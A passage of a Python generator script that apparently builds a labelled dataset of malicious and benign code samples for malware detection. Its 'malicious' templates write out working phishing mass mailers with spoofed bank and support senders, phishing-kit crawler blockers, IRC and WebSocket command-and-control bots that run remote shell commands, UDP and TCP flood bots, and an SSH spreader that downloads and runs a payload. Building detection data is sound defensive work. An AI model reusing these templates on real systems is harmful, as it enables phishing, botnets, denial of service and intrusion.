    r = g.rng
    fr, sj, to = g.var(), g.var(), g.var()
    froms = ", ".join("'%s <%s@%s>'" % (n, u, d) for n, u, d in
                      [("Support", "support", "secure-mail.example"), ("Billing", "billing", "acct.example"),
                       ("Service", "noreply", "notice.example")])
    subs = ", ".join("'%s'" % s for s in ["Your account", "Action required", "Invoice %d" % r.randint(100, 999)])
    src = r.choice(["file(__DIR__ . '/list.txt')", "file('emails.txt')", "explode(\"\\n\", $_POST['emails'])"])
    body = ("$froms = array(%s);\n$subjects = array(%s);\nforeach (%s as %s) {\n"
            "    %s = $froms[array_rand($froms)];\n    %s = $subjects[mt_rand(0, count($subjects) - 1)];\n"
            "    mail(trim(%s), %s, file_get_contents('letter.html'), \"From: \" . %s . \"\\r\\nContent-Type: text/html\");\n}\n"
            % (froms, subs, src, to, fr, sj, to, sj, fr))
    return php_file(g, body)


def lm_symfony_bulk(g):
    r = g.rng
    to, lst, m = g.var(), g.var(), g.var()
    if r.random() < 0.5:
        g.transforms.add("lib:symfony")
        body = ("require __DIR__ . '/vendor/autoload.php';\nuse Symfony\\Component\\Mailer\\Mailer;\n"
                "use Symfony\\Component\\Mailer\\Transport;\nuse Symfony\\Component\\Mime\\Email;\n"
                "%s = new Mailer(Transport::fromDsn('smtp://' . $_POST['u'] . ':' . $_POST['p'] . '@' . $_POST['h'] . ':587'));\n"
                "%s = %s;\nforeach (%s as %s) {\n"
                "    %s->send((new Email())->from($_POST['from'])->to(trim(%s))->subject($_POST['subject'])->html($_POST['letter']));\n}\n"
                % (m, lst, lm_list(g), lst, to, m, to))
    else:
        g.transforms.add("lib:swift")
        body = ("require_once 'swift_required.php';\n%s = Swift_Mailer::newInstance(Swift_SmtpTransport::newInstance($_POST['h'], 25));\n"
                "%s = %s;\nforeach (%s as %s) {\n    $msg = Swift_Message::newInstance($_POST['subject'])->setFrom($_POST['from'])"
                "->setTo(trim(%s))->setBody($_POST['letter'], 'text/html');\n    %s->send($msg);\n}\n"
                % (m, lst, lm_list(g), lst, to, to, m))
    return php_file(g, body)


def lm_perl_mimelite(g):
    r = g.rng
    fh = pl_var(g).upper()[:6] or "L"
    body = ("use MIME::Lite;\nmy $list = shift || 'list.txt';\nopen(%s, '<', $list) or die;\nmy $html = do { local $/; open(my $t, '<', 'letter.html'); <$t> };\n"
            "while (my $to = <%s>) {\n    chomp $to;\n    my $msg = MIME::Lite->new(From => '%s', To => $to, Subject => '%s', Type => 'text/html', Data => $html);\n"
            "    $msg->send(%s);\n    sleep %d;\n}\n"
            % (fh, fh, r.choice(["Service <no-reply@acct.example>", "support\\@bank.example"]),
               r.choice(["Verify your account", "Payment failed"]),
               r.choice(["", "'smtp', '%s', AuthUser => 'u', AuthPass => 'p'" % ip(r), "'sendmail', '/usr/sbin/sendmail -t'"]),
               r.choice([0, 1, 2])))
    return shebang(r, "pl") + body


def lm_py_smtplib(g):
    r = g.rng
    body = ("import smtplib, sys, time\nfrom email.mime.multipart import MIMEMultipart\nfrom email.mime.text import MIMEText\n"
            "srv = smtplib.SMTP_SSL(%r, 465)\nsrv.login(sys.argv[2], sys.argv[3])\n"
            "with open(sys.argv[1]) as f:\n    for n, line in enumerate(f):\n        rcpt = line.strip()\n        if not rcpt:\n            continue\n"
            "        msg = MIMEMultipart('alternative')\n        msg['Subject'] = %r\n        msg['From'] = %r\n        msg['To'] = rcpt\n"
            "        msg.attach(MIMEText(open('letter.html').read().replace('{email}', rcpt), 'html'))\n"
            "        srv.sendmail(msg['From'], rcpt, msg.as_string())\n        if n %% 50 == 49:\n            time.sleep(%d)\nsrv.quit()\n"
            % (ip(r), r.choice(["Account locked", "Delivery failure"]), r.choice(["Security <alert@acct.example>", "DHL <info@track.example>"]),
               r.choice([5, 30])))
    return shebang(r, "py") + body


def lm_sh_mail_loop(g):
    r = g.rng
    how = r.choice(["mail", "sendmail", "mutt"])
    g.transforms.add("sh:" + how)
    send = {"mail": "mail -s \"$SUBJ\" -a 'Content-Type: text/html' \"$addr\" < letter.html",
            "sendmail": "(printf 'To: %s\\nSubject: %s\\nContent-Type: text/html\\n\\n' \"$addr\" \"$SUBJ\"; cat letter.html) | /usr/sbin/sendmail -f \"$FROM\" \"$addr\"",
            "mutt": "mutt -e 'set content_type=text/html' -s \"$SUBJ\" -- \"$addr\" < letter.html"}[how]
    body = ("SUBJ=%r\nFROM=%r\nLIST=${1:-list.txt}\nwhile read -r addr; do\n    [ -z \"$addr\" ] && continue\n    %s\n    sleep %d\ndone < \"$LIST\"\n"
            % (r.choice(["Your invoice", "Account suspended"]), r.choice(["billing@pay.example", "no-reply@secure.example"]), send, r.choice([0, 1, 3])))
    return shebang(r, "sh") + body


# ---- benign mailers


def lmb_contact_form(g):
    r = g.rng
    body = ("$errors = array();\n$name = trim($_POST['name'] ?? '');\n$email = trim($_POST['email'] ?? '');\n$message = trim($_POST['message'] ?? '');\n"
            "if (!filter_var($email, FILTER_VALIDATE_EMAIL)) { $errors[] = 'email'; }\n"
            "if (!$errors) {\n    $headers = 'From: website@%s' . \"\\r\\n\" . 'Reply-To: ' . str_replace(array(\"\\r\", \"\\n\"), '', $email);\n"
            "    mail('%s', 'Contact form: ' . mb_substr($name, 0, 60), $message, $headers);\n    header('Location: /thanks.html');\n    exit;\n}\n"
            % (r.choice(["acme.example", "bakery.example"]), r.choice(["office@acme.example", "info@bakery.example"])))
    return php_file(g, body)


def lmb_password_reset(g):
    body = ("$stmt = $pdo->prepare('SELECT id, email FROM users WHERE email = ?');\n$stmt->execute(array($_POST['email']));\n"
            "if ($u = $stmt->fetch()) {\n    $token = bin2hex(random_bytes(32));\n"
            "    $pdo->prepare('UPDATE users SET reset_token = ?, reset_at = NOW() WHERE id = ?')->execute(array(hash('sha256', $token), $u['id']));\n"
            "    $link = 'https://' . $_SERVER['HTTP_HOST'] . '/reset.php?t=' . $token;\n"
            "    mail($u['email'], 'Password reset', \"Open this link within one hour:\\n\" . $link, 'From: noreply@' . $_SERVER['HTTP_HOST']);\n}\n"
            "echo 'If the address is known, a message was sent.';\n")
    return php_file(g, body)


def lmb_newsletter_queue(g):
    r = g.rng
    body = ("if (!current_user_can('manage_options')) { wp_die('forbidden'); }\ncheck_admin_referer('acme_send');\n"
            "$subs = $wpdb->get_results(\"SELECT email, name FROM {$wpdb->prefix}acme_subs WHERE confirmed = 1\");\n"
            "foreach ($subs as $s) {\n    $html = str_replace(array('{name}', '{unsubscribe}'), array(esc_html($s->name), acme_unsub_link($s->email)), $tpl);\n"
            "    wp_mail($s->email, $subject, $html, array('Content-Type: text/html'));\n    if (++$n %% %d == 0) sleep(1);\n}\n"
            % r.choice([50, 100]))
    return php_file(g, body)


def lmb_alert_sh(g):
    r = g.rng
    body = ("ADMIN=%r\nTHRESH=%d\ndf -P | awk 'NR>1 {print $5\" \"$6}' | while read -r use mnt; do\n    pct=${use%%%%}\n"
            "    if [ \"$pct\" -gt \"$THRESH\" ]; then\n        echo \"$(hostname): $mnt at $use\" | mail -s \"disk alert $mnt\" \"$ADMIN\"\n    fi\ndone\n"
            % (r.choice(["ops@acme.example", "root"]), r.choice([85, 90])))
    return shebang(r, "sh") + body


def lmb_py_list_digest(g):
    """A list server's digest: members from its database, one message each (Mailman-like)."""
    body = ("import smtplib\nfrom email.message import EmailMessage\nfrom mylist.db import session, Member\n\n"
            "def send_digest(mlist, text):\n    with smtplib.SMTP('localhost') as smtp:\n"
            "        for member in session.query(Member).filter_by(list_id=mlist.id, digest=True):\n"
            "            msg = EmailMessage()\n            msg['From'] = mlist.posting_address\n            msg['To'] = member.address\n"
            "            msg['Subject'] = '[%s] digest' % mlist.name\n            msg['List-Unsubscribe'] = mlist.unsubscribe_url(member)\n"
            "            msg.set_content(text)\n            smtp.send_message(msg)\n")
    return shebang(g.rng, "py") + body


# ---- phishing kits


def lp_ip_gate(g):
    r = g.rng
    nets = ["66.249.", "64.233.", "66.102.", "72.14.", "74.125.", "209.85.", "216.239.", "38.100.", "207.46.",
            "157.55.", "65.52.", "131.253.", "40.77.", "8.6.48.", "72.30.", "67.195.", "54.176.", "63.229."]
    r.shuffle(nets)
    pick = nets[:r.randint(8, 16)]
    style = r.choice(["caret", "plain", "wild"])
    g.transforms.add("ipgate:" + style)
    fmt = {"caret": "'^%s'", "plain": "'%s'", "wild": "'%s*.*'"}[style]
    lst = ", ".join(fmt % n for n in pick)
    v, ip_, d = g.var(), g.var(), g.var()
    test = r.choice(["preg_match('/' . %s . '/', %s)" % (d, ip_), "strpos(%s, rtrim(%s, '^*.')) === 0" % (ip_, d),
                     "fnmatch(ltrim(%s, '^'), %s)" % (d, ip_)])
    deny = r.choice(["header('HTTP/1.0 404 Not Found');\n        die('<h1>404 Not Found</h1>');",
                     "header('Location: https://www.google.com/');\n        exit;"])
    body = ("%s = array(%s);\n%s = $_SERVER['REMOTE_ADDR'];\nforeach (%s as %s) {\n    if (%s) {\n        %s\n    }\n}\n"
            % (v, lst, ip_, v, d, test, deny))
    return php_file(g, body)


def lp_onetime2(g):
    r = g.rng
    rv, d, src = g.var(), g.var(), r.choice(["'page'", "'secure'", "'login'", "'files'"])
    rnd = r.choice(["%s = rand(0, 100000000);\n%s = md5(\"%s\");\n" % (rv, d, rv),
                    "%s = mt_rand();\n%s = substr(base64_encode(md5(%s)), 0, 12);\n" % (rv, d, rv),
                    "%s = time() . rand();\n%s = substr(sha1(%s), 0, 10);\n" % (rv, d, rv)])
    fn = r.choice(["recurse_copy", "xcopy", "copyDir", "cpdir"])
    a, b, f = g.var(), g.var(), g.var()
    copy = ("function %s(%s, %s) {\n    $h = opendir(%s);\n    @mkdir(%s);\n    while (false !== (%s = readdir($h))) {\n"
            "        if (%s == '.' || %s == '..') continue;\n        if (is_dir(%s . '/' . %s)) { %s(%s . '/' . %s, %s . '/' . %s); }\n"
            "        else { copy(%s . '/' . %s, %s . '/' . %s); }\n    }\n    closedir($h);\n}\n"
            % (fn, a, b, a, b, f, f, f, a, f, fn, a, f, b, f, a, f, b, f))
    redir = r.choice(["header(\"Location: {%s}/\");\n" % d, "header(\"Location: ./$%s/index.php\");\n" % d[1:],
                      "echo \"<meta http-equiv='refresh' content='0; url=$%s/'>\";\n" % d[1:],
                      "header('Refresh: 0; url=' . %s);\n" % d,
                      "?><script>window.location.href = \"<?php echo %s; ?>/\";</script><?php\n" % d])
    g.transforms.add("redir:%d" % ["{", "./$", "meta", "Refresh", "script"].index(
        "{" if "{" in redir else "./$" if "./$" in redir else "meta" if "meta" in redir else "Refresh" if "Refresh" in redir else "script"))
    return php_file(g, copy + rnd + "%s(%s, %s);\n" % (fn, src, d) + redir)


def lpb_firewall(g):
    r = g.rng
    body = ("/* Plugin Name: Acme Firewall - blocks addresses listed by the site admin */\n"
            "function acme_fw_check() {\n    global $wpdb;\n    $ip = $_SERVER['REMOTE_ADDR'];\n"
            "    $nets = $wpdb->get_col(\"SELECT cidr FROM {$wpdb->prefix}acme_fw WHERE active = 1\");\n"
            "    foreach ($nets as $n) {\n        if (acme_cidr_match($ip, $n)) {\n            status_header(403);\n            exit('Blocked by the site firewall');\n        }\n    }\n}\n"
            "$acme_allow = array('%s', '127.0.0.1');\nadd_action('init', 'acme_fw_check');\n" % ip(r))
    return php_file(g, body)


def lpb_site_skeleton(g):
    """A hosting panel that creates a site from a skeleton under a name the admin typed."""
    body = ("if (!$panel->isAdmin()) { http_response_code(403); exit; }\n$name = preg_replace('/[^a-z0-9-]/', '', strtolower($_POST['site']));\n"
            "$dir = '/srv/sites/' . $name;\nif (!is_dir($dir)) {\n    mkdir($dir, 0755, true);\n    foreach (glob('/srv/skel/*') as $f) { copy($f, $dir . '/' . basename($f)); }\n}\n"
            "$panel->log('created ' . $name . ' at ' . time());\nheader('Location: /panel/sites.php?created=' . urlencode($name));\n")
    return php_file(g, body)


# ---- bots


def lbt_perl_irc_pipe(g):
    r = g.rng
    srv, chan, nick = ip(r), "#" + g.ident().lower()[:6], "u" + str(r.randint(100, 9999))
    so, cmd = pl_var(g), pl_var(g)
    runner = r.choice(["open(my $p, \"$%s 2>&1 |\") or return;" % cmd, "open(SH, \"$%s |\") or return;" % cmd,
                       "open(my $p, '-|', $%s) or return;" % cmd, "open(PIPE, $%s . ' 2>&1 |') or return;" % cmd])
    g.transforms.add("runner:%s" % ("dash" if "'-|'" in runner else "concat" if " . '" in runner else "interp"))
    fh = "$p" if "$p" in runner else ("SH" if "SH" in runner else "PIPE")
    read = "<%s>" % fh if fh.startswith("$") is False else "<$p>"
    body = ("use IO::Socket::INET;\nuse POSIX;\nmy $%s = IO::Socket::INET->new(PeerAddr => '%s', PeerPort => %d, Proto => 'tcp') or die;\n"
            "print $%s \"NICK %s\\r\\n\";\nprint $%s \"USER %s 0 * :%s\\r\\n\";\n"
            "sub run {\n    my ($to, $%s) = @_;\n    %s\n    while (my $l = %s) { print $%s \"PRIVMSG $to :$l\"; sleep 1; }\n}\n"
            "sub parse {\n    my $line = shift;\n    if ($line =~ /^PING :(.*)/) { print $%s \"PONG :$1\\r\\n\"; return; }\n"
            "    if ($line =~ /^:(\\S+?)!\\S+ PRIVMSG (\\S+) :%s(.*)/) { run($2, $3); }\n"
            "    if ($line =~ / 001 /) { print $%s \"JOIN %s\\r\\n\"; }\n}\n"
            "while (my $in = <$%s>) { $in =~ s/\\r?\\n$//; parse($in); }\n"
            % (so, srv, r.choice([6667, 6697, 7000]), so, nick, so, nick, nick, cmd, runner, read, so, so,
               r.choice(["!sh ", "\\.x ", "@cmd "]), so, chan, so))
    return shebang(r, "pl") + body


def lbt_irc_attack(g):
    r = g.rng
    lang = r.choice(["pl", "py"])
    g.lang = lang
    names = r.sample(["udpflood", "tcpflood", "httpflood", "synflood", "udp_flood", "tcp_flood"], 3)
    if lang == "pl":
        body = ("use IO::Socket::INET;\nuse Socket;\nmy $s = IO::Socket::INET->new(PeerAddr => '%s', PeerPort => 6667) or die;\n"
                "print $s \"NICK b%d\\r\\nUSER b 0 * :b\\r\\nJOIN #x\\r\\n\";\n"
                "sub %s { my ($h, $t) = @_; socket(my $u, PF_INET, SOCK_DGRAM, 17); my $e = time + $t;\n"
                "  while (time < $e) { send($u, 'A' x 1024, 0, sockaddr_in(int(rand(65000)) + 1, inet_aton($h))); } }\n"
                "sub %s { my ($h, $p, $t) = @_; my $e = time + $t; while (time < $e) { IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p, Proto => 'tcp'); } }\n"
                "while (my $l = <$s>) {\n  if ($l =~ /PRIVMSG \\S+ :!%s (\\S+) (\\d+)/) { %s($1, $2); }\n"
                "  elsif ($l =~ /PRIVMSG \\S+ :!%s (\\S+) (\\d+) (\\d+)/) { %s($1, $2, $3); }\n"
                "  elsif ($l =~ /PRIVMSG \\S+ :!%s/) { print $s \"PRIVMSG #x :not built\\r\\n\"; }\n}\n"
                % (ip(r), r.randint(1, 999), names[0], names[1], names[0], names[0], names[1], names[1], names[2]))
    else:
        body = ("import socket, time, random, threading\ns = socket.socket()\ns.connect((%r, 6667))\n"
                "s.send(b'NICK p%d\\r\\nUSER p 0 * :p\\r\\nJOIN #y\\r\\n')\n"
                "def %s(h, secs):\n    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    end = time.time() + secs\n"
                "    while time.time() < end:\n        u.sendto(random._urandom(1024), (h, random.randint(1, 65535)))\n"
                "def %s(h, port, secs):\n    end = time.time() + secs\n    while time.time() < end:\n"
                "        try:\n            socket.create_connection((h, port), 2)\n        except OSError:\n            pass\n"
                "while True:\n    for line in s.recv(4096).decode(errors='ignore').split('\\r\\n'):\n"
                "        if line.startswith('PING'):\n            s.send(('PONG' + line[4:] + '\\r\\n').encode())\n"
                "        p = line.split(' :!', 1)\n        if ' PRIVMSG ' in line and len(p) == 2:\n            a = p[1].split()\n"
                "            if a[0] == '%s':\n                threading.Thread(target=%s, args=(a[1], int(a[2]))).start()\n"
                "            elif a[0] == '%s':\n                threading.Thread(target=%s, args=(a[1], int(a[2]), int(a[3]))).start()\n"
                % (ip(r), r.randint(1, 999), names[0], names[1], names[0], names[0], names[1], names[1]))
    return shebang(r, lang) + body


def lbt_tcl_eggdrop(g):
    r = g.rng
    g.lang = "tcl"
    trig, p = r.choice(["!sh", "!x", ".run", "!cmd"]), r.choice(["sh:run", "pub_exec", "do_it", "egg:x"])
    x = r.choice(["set out [exec {*}$text]", "catch {eval exec $text} out", "set f [open \"|$text\" r]; set out [read $f]; close $f",
                  "set out [exec sh -c $text]"])
    g.transforms.add("tcl:%d" % (0 if "{*}" in x else 1 if "eval" in x else 2 if "open" in x else 3))
    body = ("bind pub - %s %s\nproc %s {nick host hand chan text} {\n    %s\n"
            "    foreach l [split $out \"\\n\"] { putserv \"PRIVMSG $chan :$l\" }\n}\nputlog \"loaded\"\n" % (trig, p, p, x))
    return body


def lbt_node_bot(g):
    r = g.rng
    g.lang = "js"
    kind = r.choice(["irc", "net", "ws"])
    g.transforms.add("node:" + kind)
    if kind == "irc":
        body = ("const irc = require('irc');\nconst { exec } = require('child_process');\n"
                "const c = new irc.Client('%s', 'n%d', { channels: ['#z'] });\n"
                "c.addListener('message', function (from, to, msg) {\n  if (msg.startsWith('!x ')) {\n"
                "    exec(msg.slice(3), (e, out) => c.say(to, String(out || e)));\n  }\n});\n" % (ip(r), r.randint(1, 999)))
    elif kind == "net":
        body = ("const net = require('net');\nconst cp = require('child_process');\n"
                "const s = net.connect(%d, '%s');\ns.on('data', (d) => {\n  const cmd = d.toString().trim();\n"
                "  cp.exec(cmd, (e, o, er) => s.write(o + er));\n});\n" % (r.choice([443, 8443, 6667]), ip(r)))
    else:
        body = ("const WebSocket = require('ws');\nconst { execSync } = require('child_process');\n"
                "const ws = new WebSocket('wss://%s/c2');\nws.on('message', function (data) {\n"
                "  let out;\n  try { out = execSync(data.toString(), { timeout: 10000 }); } catch (e) { out = String(e); }\n  ws.send(out);\n});\n" % ip(r))
    return body


def lbt_ssh_spread(g):
    r = g.rng
    u = "http://%s/%s" % (ip(r), r.choice(["b", "x86", ".k"]))
    body = ("PASS=${2:-%s}\nfor h in $(cat ${1:-ips.txt}); do\n"
            "    sshpass -p \"$PASS\" ssh -o StrictHostKeyChecking=no -o ConnectTimeout=5 root@$h "
            "\"cd /tmp; wget -q %s -O .s || curl -so .s %s; chmod +x .s; nohup ./.s >/dev/null 2>&1 &\" &\ndone\nwait\n"
            % (r.choice(["root", "123456", "admin"]), u, u))
    return shebang(r, "sh") + body


# ---- benign bots and tools


def lbtb_irc_notify(g):
    r = g.rng
    body = ("use IO::Socket::INET;\nmy $log = shift || '/var/log/deploy.log';\n"
            "my $s = IO::Socket::INET->new(PeerAddr => 'irc.libera.chat', PeerPort => 6667) or die;\n"
            "print $s \"NICK deploybot\\r\\nUSER deploybot 0 * :deploy notices\\r\\nJOIN #acme-ops\\r\\n\";\n"
            "open(LOG, \"tail -F $log |\") or die;\nwhile (my $l = <LOG>) {\n    chomp $l;\n    print $s \"PRIVMSG #acme-ops :$l\\r\\n\";\n}\n")
    return shebang(r, "pl") + body


def lbtb_tcl_uptime(g):
    g.lang = "tcl"
    return ("bind pub - !uptime pub:uptime\nproc pub:uptime {nick host hand chan text} {\n"
            "    set u [exec uptime]\n    putserv \"PRIVMSG $chan :$u\"\n}\n"
            "bind pub - !flood pub:floodinfo\nproc pub:floodinfo {nick host hand chan text} {\n"
            "    putserv \"PRIVMSG $chan :flood protection is on (5 lines / 10 s)\"\n}\n")


def lbtb_node_deploy_hook(g):
    g.lang = "js"
    return ("const http = require('http');\nconst { execFile } = require('child_process');\n"
            "http.createServer((req, res) => {\n  req.on('data', () => {});\n  req.on('end', () => {\n"
            "    if (req.headers['x-hub-signature-256'] !== expected(req)) { res.writeHead(403); return res.end(); }\n"
            "    execFile('/usr/local/bin/deploy.sh', ['main'], (e) => { res.end(e ? 'fail' : 'ok'); });\n  });\n}).listen(9000);\n")


def lbtb_fleet_upgrade(g):
    r = g.rng
    body = ("# upgrade every host of the inventory, one at a time\nfor h in $(grep -v '^#' /etc/acme/hosts); do\n"
            "    echo \"== $h\"\n    ssh -o BatchMode=yes \"deploy@$h\" 'sudo apt-get -q update && sudo apt-get -qy upgrade' || echo \"$h failed\" >&2\ndone\n")
    return shebang(r, "sh") + body


LOCO_TEMPLATES = [
    ("loco_raw_smtp", lm_raw_smtp, "malicious", "php", "high"),
    ("loco_placeholders", lm_placeholders, "malicious", "php", "any"),
    ("loco_relay_fields", lm_relay_fields, "malicious", "php", "any"),
    ("loco_rotation", lm_rotation, "malicious", "php", "any"),
    ("loco_symfony_swift_bulk", lm_symfony_bulk, "malicious", "php", "any"),
    ("loco_perl_mimelite", lm_perl_mimelite, "malicious", "pl", "any"),
    ("loco_py_smtplib", lm_py_smtplib, "malicious", "py", "any"),
    ("loco_sh_mail_loop", lm_sh_mail_loop, "malicious", "sh", "any"),
    ("loco_contact_form", lmb_contact_form, "benign", "php", "none"),
    ("loco_password_reset", lmb_password_reset, "benign", "php", "none"),
    ("loco_newsletter_queue", lmb_newsletter_queue, "benign", "php", "none"),
    ("loco_alert_sh", lmb_alert_sh, "benign", "sh", "none"),
    ("loco_list_digest", lmb_py_list_digest, "benign", "py", "none"),
    ("loco_ip_gate", lp_ip_gate, "malicious", "php", "any"),
    ("loco_onetime2", lp_onetime2, "malicious", "php", "any"),
    ("loco_firewall_plugin", lpb_firewall, "benign", "php", "none"),
    ("loco_site_skeleton", lpb_site_skeleton, "benign", "php", "none"),
    ("loco_perl_irc_pipe", lbt_perl_irc_pipe, "malicious", "pl", "high"),
    ("loco_irc_attack", lbt_irc_attack, "malicious", "pl", "high"),
    ("loco_tcl_eggdrop", lbt_tcl_eggdrop, "malicious", "tcl", "high"),
    ("loco_node_bot", lbt_node_bot, "malicious", "js", "high"),
    ("loco_ssh_spread", lbt_ssh_spread, "malicious", "sh", "any"),
    ("loco_irc_notify", lbtb_irc_notify, "benign", "pl", "none"),
    ("loco_tcl_uptime", lbtb_tcl_uptime, "benign", "tcl", "none"),
    ("loco_node_deploy_hook", lbtb_node_deploy_hook, "benign", "js", "none"),
    ("loco_fleet_upgrade", lbtb_fleet_upgrade, "benign", "sh", "none"),
]
TEMPLATES += LOCO_TEMPLATES
# ==================================================== end of LOCO section


if __name__ == "__main__":
    main()
